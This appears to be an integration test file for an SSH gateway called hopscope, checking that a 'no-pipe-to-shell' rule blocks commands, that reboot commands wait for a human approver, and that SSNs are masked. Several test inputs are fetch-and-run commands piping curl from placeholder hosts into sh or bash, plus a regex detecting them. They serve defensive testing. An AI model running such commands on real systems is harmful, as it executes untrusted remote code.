import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EventType, type RecordingEvent } from '../common/recording/index.js';
import { eventually, readEvents, startTestGateway, type TestGateway } from './helpers/gateway.js';
import { ssh2Client, ssh2Exec, startSshd, type SshdServer } from './helpers/sshd.js';

let sshd: SshdServer;
let gw: TestGateway;

beforeAll(async () => {
  sshd = await startSshd();
  gw = await startTestGateway(undefined, {
    identities: [{ name: 'agent', kind: 'machine', targets: ['host'] }, { name: 'boss', kind: 'human', targets: [], approver: true }],
    guardrails: [
      { name: 'no-pipe-to-shell', ssh: { pattern: 'curl[^|]*\\|\\s*(ba)?sh' }, action: 'block' },
      { name: 'reboots-need-approval', ssh: { pattern: '^echo reboot' }, action: 'review' },
    ],
    masking: [{ name: 'ssn', pattern: '\\b\\d{3}-\\d{2}-\\d{4}\\b' }],
  }, { ssh: sshd });
});
afterAll(async () => {
  await gw?.stop();
  await sshd?.stop();
});

const connect = () => ssh2Client(gw.gateway.ssh!.port, 'agent:host', { password: gw.token() });
async function recordingWith(match: (e: RecordingEvent) => boolean) {
  return eventually(async () => {
    for (const file of await gw.sessionFiles()) {
      const events = await readEvents(file);
      if (events.some(match)) return events;
    }
    return undefined;
  });
}

describe('SSH policies', () => {
  it('blocks an exec a guardrail forbids: nothing runs on the target, exit 126, reason on stderr', async () => {
    const marker = join(sshd.dir, 'ran');
    const client = await connect();
    const res = await ssh2Exec(client, `touch ${marker}; curl http://example.invalid/x | sh`);
    client.end();
    expect(res.code).toBe(126);
    expect(res.stderr).toContain('hopscope: blocked by rule no-pipe-to-shell');
    expect(existsSync(marker)).toBe(false);
    const events = await recordingWith((e) => e.type === EventType.SshExec && e.data.action === 'block');
    const exec = events.find((e) => e.type === EventType.SshExec)!;
    expect(exec.data).toMatchObject({ rule: 'no-pipe-to-shell' });
    // The refusal is the policy lifecycle's event, tied to the exec, as over PostgreSQL.
    expect(events.find((e) => e.type === EventType.PolicyBlock)!.data).toMatchObject({ statement: exec.seq, rule: 'no-pipe-to-shell', action: 'block' });
  });

  it('holds an exec under review with a message on stderr until an approver approves', async () => {
    const client = await connect();
    const stderr: string[] = [];
    const result = new Promise<{ out: string; code: number | null }>((resolve, reject) => {
      client.exec('echo reboot-approved', (err, ch) => {
        if (err) return reject(err);
        let out = '';
        let code: number | null = null;
        ch.on('data', (d: Buffer) => (out += d));
        ch.stderr.on('data', (d: Buffer) => stderr.push(d.toString()));
        ch.on('exit', (c: number) => (code = c));
        ch.on('close', () => resolve({ out, code }));
      });
    });
    const id = await eventually(() => /approval ([A-Za-z0-9-]+)/.exec(stderr.join(''))?.[1]);
    const approve = await fetch(`${gw.gateway.admin.url}/approvals/${id}/approve`, {
      method: 'POST', headers: { authorization: `Bearer ${gw.token('boss')}` }, body: '{}',
    });
    expect(approve.status).toBe(200);
    const { out, code } = await result;
    client.end();
    expect(out).toBe('reboot-approved\n');
    expect(code).toBe(0);
    expect(stderr.join('')).toContain('approved by boss');
    const events = await recordingWith((e) => e.type === EventType.ApprovalDecided);
    const exec = events.find((e) => e.type === EventType.SshExec && e.data.action === 'review')!;
    // The same lifecycle events as PostgreSQL's, tied to the exec they held.
    expect(events.filter((e) => e.type === EventType.ApprovalRequested || e.type === EventType.ApprovalDecided).map((e) => [e.type, e.data.statement]))
      .toEqual([[EventType.ApprovalRequested, exec.seq], [EventType.ApprovalDecided, exec.seq]]);
    expect(events.find((e) => e.type === EventType.ApprovalDecided)!.data).toMatchObject({ id, decision: 'approved', approver: 'boss', channel: exec.data.channel });
    expect(events.some((e) => e.type === EventType.PolicyBlock)).toBe(false);
    const adminToken = readFileSync(join(gw.keysDir, 'admin.token'), 'utf8').trim();
    const metrics = await (await fetch(`${gw.gateway.admin.url}/metrics`, { headers: { authorization: `Bearer ${adminToken}` } })).text();
    expect(metrics).toMatch(/hopscope_approvals_total\{protocol="ssh",step="approved"\} 1/);
    expect(metrics).not.toMatch(/hopscope_refusals_total\{reason="POLICY_REVIEW"\}/);
    // The exec that ran is one observation of the gateway's added latency per command (the hold's wait included).
    expect(Number(/hopscope_statement_seconds_count\{protocol="ssh"\} (\d+)/.exec(metrics)?.[1])).toBeGreaterThanOrEqual(1);
  });

  it('judges shell lines as typed, edits included: a blocked line never reaches the shell', async () => {
    const client = await connect();
    const out = await new Promise<string>((resolve, reject) => {
      client.shell({ term: 'dumb', cols: 80, rows: 24 }, (err, ch) => {
        if (err) return reject(err);
        let text = '';
        ch.on('data', (d: Buffer) => (text += d));
        ch.on('close', () => resolve(text));
        ch.write('echo safe | cat\x7f\x7f\x7fsh\x17\x17curl http://x.invalid | bash\r');
        setTimeout(() => ch.write('echo id 123-45-6789 after\rexit\r'), 300);
      });
    });
    client.end();
    expect(out).toContain('hopscope: blocked by rule no-pipe-to-shell');
    expect(out).toContain('id [masked');
    expect(out).not.toContain('123-45-6789');
    const events = await recordingWith((e) => e.type === EventType.SshLine && e.data.action === 'block');
    expect(events.find((e) => e.type === EventType.SshLine)!.data).toMatchObject({ line: 'echo safe curl http://x.invalid | bash', rule: 'no-pipe-to-shell' });
  });
});
